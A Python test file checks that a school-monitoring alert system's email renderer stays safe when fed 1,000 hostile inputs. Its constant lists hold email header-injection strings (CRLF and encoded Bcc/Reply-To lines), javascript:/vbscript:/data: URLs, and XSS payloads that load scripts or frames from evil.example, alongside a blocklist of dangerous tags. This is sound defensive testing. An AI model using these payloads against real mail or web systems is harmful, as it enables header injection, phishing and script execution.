"""1,000 hostile titles and texts (the feedparser sanitizer corpus, header-injection tricks, hostile
links) through the real rules and renderer: no extra header, no script, no event handler, no
javascript: link, no remote image, in any message."""

from __future__ import annotations

import itertools
import re
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from email import message_from_bytes
from email.header import decode_header, make_header
from email.message import EmailMessage, Message
from email.policy import SMTP, compat32
from html.parser import HTMLParser
from pathlib import Path

from alerts import rules
from alerts.digest import build_digest
from alerts.notice import Envelope, Notice, Subscriber
from alerts.render import render
from monitor.config import AcademyConfig
from monitor.health import SourceHealth
from monitor.models import Mention
from tests.alerts_support import assess

CORPUS = Path(__file__).resolve().parent / "fixtures" / "feed-corpus" / "wellformed" / "sanitize"

NOW = datetime(2026, 11, 28, 9, 0, tzinfo=UTC)
ACADEMY = AcademyConfig(
    id="ankermoor",
    display_name="Ankermoor Primary Academy",
    names=("Ankermoor",),
    recipients=("head@ankermoor.example.org",),
)
PROVIDER = Subscriber("breach@provider.example.com", ("ankermoor",), ("data_leak", "pupil_image"))

HEADER_TRICKS = [
    "Title\r\nBcc: victim@example.com",
    "Title\nBcc: victim@example.com",
    "Title\rX-Injected: yes",
    "=?UTF-8?Q?=0A?=Bcc: victim@example.com",
    "=?UTF-8?Q?=0D=0A?=Bcc: victim@example.com",
    "=?utf-8?b?DQpCY2M6IHZpY3RpbUBleGFtcGxlLmNvbQ==?=",
    "=?iso-8859-1?q?=0ABcc=3A_victim=40example=2Ecom?=",
    "Title\u2028Bcc: victim@example.com",
    "Title\u2029Bcc: victim@example.com",
    "Title\x85Bcc: victim@example.com",
    "Title\x0bBcc: victim@example.com",
    "Title\x0cBcc: victim@example.com",
    "Title\x00Bcc: victim@example.com",
    "Title%0d%0aBcc: victim@example.com",
    "Title\r\n\r\n<html><script>alert(1)</script>",
    "Title\r\n Content-Type: text/html",
    "\r\nFrom: ceo@ankermoor.example.org",
    "A" * 3000 + "\r\nBcc: victim@example.com",
    "Ankermoor \u202eeman\u202c report\r\nReply-To: attacker@example.com",
    "=?UTF-8?B?" + "QmNjOiB2aWN0aW1AZXhhbXBsZS5jb20=" + "?=\nBcc: x@y.example",
]
HOSTILE_URLS = [
    "javascript:alert(document.cookie)",
    " JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    'https://example.org/"onmouseover="alert(1)',
    "https://example.org/\r\nBcc: x@y.example",
    "https://example.org/a?b=<script>alert(1)</script>",
    "//evil.example/x",
    "https://news.example.org/ok",
]
HTML_TRICKS = [
    '<img src="http://tracker.example/p.gif" onerror="alert(1)">',
    '<a href="javascript:alert(1)">click</a>',
    "<svg onload=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<style>@import url(http://evil.example/x.css)</style>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    '"><script>alert(1)</script>',
    "</p><script src=//evil.example/x.js></script>",
    "<body onload=alert(1)>",
]


def corpus_inputs() -> Iterator[tuple[str, str]]:
    for path in sorted(CORPUS.glob("*.xml")):
        raw = path.read_text(encoding="utf-8", errors="replace")
        yield raw[:400], raw


def hostile_inputs(n: int = 1000) -> list[tuple[str, str, str | None]]:
    corpus = list(corpus_inputs())
    assert len(corpus) > 700, "the sanitizer corpus is missing"
    out: list[tuple[str, str, str | None]] = []
    tricks = itertools.cycle(HEADER_TRICKS)
    urls = itertools.cycle(HOSTILE_URLS)
    html = itertools.cycle(HTML_TRICKS)
    for title, text in corpus:
        out.append((title, text, next(urls)))
    while len(out) < n:
        i = len(out)
        out.append(
            (
                next(tricks) + " " + next(html),
                next(html) + " Ankermoor " + next(tricks) + corpus[i % len(corpus)][1][:500],
                next(urls),
            )
        )
    return out[:n]


class Audit(HTMLParser):
    """Collects what would be dangerous in an HTML part."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in (
            "script",
            "iframe",
            "object",
            "embed",
            "img",
            "link",
            "svg",
            "form",
            "base",
            "frame",
            "applet",
            "style",
        ):
            self.problems.append(f"<{tag}>")
        if tag == "meta" and any(k == "http-equiv" for k, _ in attrs):
            self.problems.append("<meta http-equiv>")
        for k, v in attrs:
            if k.startswith("on"):
                self.problems.append(f"{tag} {k}=")
            value = "".join((v or "").split()).lower()
            if k in ("href", "src", "action", "background", "style") and (
                "javascript:" in value
                or "vbscript:" in value
                or value.startswith("data:")
                or "url(" in value
            ):
                self.problems.append(f"{tag} {k}={v!r}")
            if k == "href" and not value.startswith(("http://", "https://")):
                self.problems.append(f"{tag} href={v!r}")


def _mention(i: int, title: str, text: str, url: str | None) -> Mention:
    return Mention(
        id=i,
        organisation="ankermoor",
        source_key="ankermoor/feed",
        external_id=str(i),
        url=url,
        canonical_url=url,
        title=title,
        text=text,
        author=None,
        published_at=NOW,
        first_seen_at=NOW,
        has_media=False,
        fingerprint=f"fp{i}",
        cluster_id=f"c-{i}",
        matched_name="Ankermoor",
    )


def _envelope(i: int) -> Envelope:
    return Envelope(
        f"<m{i}@ankermoor.example.org>",
        "monitor@ankermoor.example.org",
        NOW,
        f"https://monitor.example.org/unsubscribe?token=t{i}",
    )


def _wire(msg: EmailMessage) -> Message:
    # compat32 parsing is plain and fast; what matters is what a receiving parser sees.
    return message_from_bytes(msg.as_bytes(policy=SMTP), policy=compat32)


def _check(msg: EmailMessage, expected_headers: list[str]) -> list[str]:
    problems: list[str] = []
    wire = _wire(msg)
    names = [k.lower() for k in wire]
    if names != expected_headers:
        problems.append(f"headers {names}")
    raw_subject = re.sub(r"\r?\n(?=[ \t])", "", wire["Subject"])  # RFC 5322 unfolding
    subject = str(make_header(decode_header(raw_subject)))
    if "\r" in subject or "\n" in subject:
        problems.append(f"subject has a line break: {subject!r}")
    for part in wire.walk():
        if part.get_content_type() == "text/html":
            payload = part.get_payload(decode=True)
            assert isinstance(payload, bytes)
            body = payload.decode(part.get_content_charset() or "utf-8")
            audit = Audit()
            audit.feed(body)
            problems += audit.problems
            if "<script" in body.lower():
                problems.append("raw <script")
    return problems


def _headers_of(kind_msg: EmailMessage) -> list[str]:
    return [k.lower() for k in _wire(kind_msg)]


def test_one_thousand_hostile_mentions_make_safe_emails() -> None:
    inputs = hostile_inputs(1000)
    assert len(inputs) == 1000
    benign = _mention(0, "Ankermoor fete", "Lovely day", "https://news.example.org/a")
    a0 = assess(benign.title, benign.text, ["data_leak"], urgent=True)
    incident = rules.new_incident(benign)
    base = rules.urgent_notices(
        benign,
        a0,
        ACADEMY,
        [PROVIDER],
        opted_out=frozenset(),
        incident=incident,
        base_url="https://monitor.example.org",
    )
    expected = {n.kind: _headers_of(render(n, _envelope(0))) for n in base}
    assert set(expected) == {"urgent", "provider"}

    failures: dict[int, list[str]] = {}
    rendered = 0
    rows = []
    for i, (title, text, url) in enumerate(inputs, start=1):
        m = _mention(i, title, text, url)
        a = assess(title, text, ["data_leak", "harassment"], urgent=True)
        rows.append((m, a))
        for n in rules.urgent_notices(
            m,
            a,
            ACADEMY,
            [PROVIDER],
            opted_out=frozenset(),
            incident=incident,
            base_url="https://monitor.example.org",
        ):
            problems = _check(render(n, _envelope(i)), expected[n.kind])
            rendered += 1
            if problems:
                failures[i] = problems
    # Digests of the same mentions, 50 at a time (a hostile source error in the health section).
    health = [
        SourceHealth(
            "ankermoor/feed",
            "feed",
            "failing",
            None,
            3,
            HEADER_TRICKS[0] + HTML_TRICKS[0],
            None,
            0,
            False,
        )
    ]
    digest_headers: list[str] | None = None
    for k in range(0, len(rows), 50):
        content = build_digest(
            ACADEMY,
            rows[k : k + 50],
            health,
            [HTML_TRICKS[1]],
            date(2026, 11, 28),
            (NOW - timedelta(days=1), NOW),
            "https://monitor.example.org",
        )
        n = Notice(
            "digest",
            "ankermoor",
            ACADEMY.display_name,
            "head@ankermoor.example.org",
            "2026-11-28",
            None,
            content,
        )
        msg = render(n, _envelope(10_000 + k))
        digest_headers = digest_headers or _headers_of(
            render(
                Notice(
                    "digest",
                    "ankermoor",
                    "Ankermoor",
                    "head@ankermoor.example.org",
                    "d",
                    None,
                    build_digest(
                        ACADEMY,
                        [],
                        [],
                        [],
                        date(2026, 11, 28),
                        (NOW - timedelta(days=1), NOW),
                        "https://monitor.example.org",
                    ),
                ),
                _envelope(0),
            )
        )
        problems = _check(msg, digest_headers)
        rendered += 1
        if problems:
            failures[10_000 + k] = problems
    assert rendered == 2 * len(inputs) + len(rows) // 50
    assert failures == {}, list(failures.items())[:5]


def test_only_http_links_survive_and_excerpts_are_short() -> None:
    for url in HOSTILE_URLS:
        safe = rules.safe_url(url)
        assert safe is None or (
            safe.startswith(("http://", "https://")) and '"' not in safe and "\n" not in safe
        )
    m = _mention(1, "x" * 1000, "word " * 1000, None)
    facts = rules.mention_facts(
        m, assess(m.title, m.text, ["reputation"], urgent=False), "https://m.example"
    )
    assert len(facts.excerpt) <= rules.EXCERPT_CHARS and facts.excerpt.endswith("…")
    assert len(facts.title) <= rules.TITLE_CHARS
